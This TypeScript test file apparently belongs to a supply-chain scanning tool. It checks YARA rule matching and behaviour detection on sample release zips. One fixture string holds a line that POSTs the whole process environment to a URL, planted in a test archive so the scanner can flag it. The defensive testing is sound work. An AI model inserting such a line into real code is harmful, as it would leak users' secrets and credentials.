/** Rules that a person brings, and behaviours that are known here, as a person meets them. */

import { mkdir, writeFile } from "node:fs/promises";
import { writeZip } from "@sallyport/gate/replica";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makePlace, type Place } from "./sallyport-process.ts";

const RULE = 'rule Example { meta: description = "seen before" strings: $a = "answer = 42" condition: $a }';
const STEALS = "fetch(url, { method: 'POST', body: JSON.stringify(process.env) });\n";

let place: Place;
beforeAll(async () => {
  place = await makePlace();
  await writeFile(place.at("old.zip"), zipOf("const answer = 41;\n"));
  await writeFile(place.at("new.zip"), zipOf("const answer = 42;\n"));
  await writeFile(place.at("bad.zip"), zipOf(`const answer = 41;\n${STEALS}`));
  await mkdir(place.at("ours"));
  await writeFile(place.at("ours/example.yar"), RULE);
});
afterAll(() => place.remove());

const zipOf = (text: string): Buffer => writeZip([{ name: "app/index.js", bytes: Buffer.from(text) }]);
const check = async (...args: string[]) => {
  const { stdout } = await place.sallyport("check", "--json", ...args);
  return JSON.parse(stdout);
};

describe("--rules", () => {
  it("holds what a rule matches, names rule and member, and keeps which rules were asked", async () => {
    const { verdict, reasons, evidence, receipt } = await check(
      place.at("new.zip"),
      "--rules",
      place.at("ours"),
    );
    expect(verdict).toBe("hold");
    expect(reasons.map(({ policy }: { policy: string }) => policy)).toContain("matched-rule");
    expect(evidence).toContainEqual(
      expect.objectContaining({
        source: "gate/checks/rules",
        outcome: "fail",
        path: "app/index.js",
        because: `matches the rule Example of ${place.at("ours/example.yar")}: seen before`,
      }),
    );
    expect(JSON.stringify(receipt)).not.toBe("{}");
  });

  it("passes what no rule matches, and says when no rules were asked", async () => {
    const asked = await check(place.at("old.zip"), "--rules", place.at("ours"));
    expect(asked.evidence).toContainEqual(
      expect.objectContaining({ source: "gate/checks/rules", outcome: "pass" }),
    );
    const unasked = await check(place.at("old.zip"));
    expect(unasked.notChecked).toContainEqual(expect.objectContaining({ source: "gate/checks/rules" }));
  });

  it("may stand several times", async () => {
    await writeFile(place.at("other.yar"), "rule Other { condition: filesize > 0 }");
    const { evidence } = await check(
      place.at("new.zip"),
      ...["--rules", place.at("ours"), "--rules", place.at("other.yar")],
    );
    const told = evidence.map(({ because }: { because: string }) => because).join();
    expect(told).toContain("the rule Example");
    expect(told).toContain("the rule Other");
  });

  it("refuses rules with a reason before anything is opened", async () => {
    await writeFile(
      place.at("loop.yar"),
      "rule Loop { condition: for any i in (0..filesize) : (uint8(i) == 1) }",
    );
    for (const command of ["check", "inspect"]) {
      const { code, stdout, stderr } = await place.sallyport(
        command,
        place.at("new.zip"),
        "--rules",
        place.at("loop.yar"),
      );
      expect([code, stdout]).toEqual([2, ""]);
      expect(stderr).toContain("may loop over a whole file");
    }
  });
});

describe("behaviours", () => {
  it("show without an earlier release, and refuse nothing", async () => {
    const { evidence } = await check(place.at("bad.zip"));
    expect(evidence).toContainEqual(
      expect.objectContaining({
        source: "gate/checks/behaviours",
        outcome: "pass",
        path: "app/index.js",
        because: "the script collects the whole environment and sends it",
      }),
    );
  });

  it("hold when a release gains them", async () => {
    const { code, stdout } = await place.sallyport("diff", place.at("old.zip"), place.at("bad.zip"));
    expect(code).toBe(10);
    expect(stdout).toContain("collects the whole environment and sends it");
  });
});
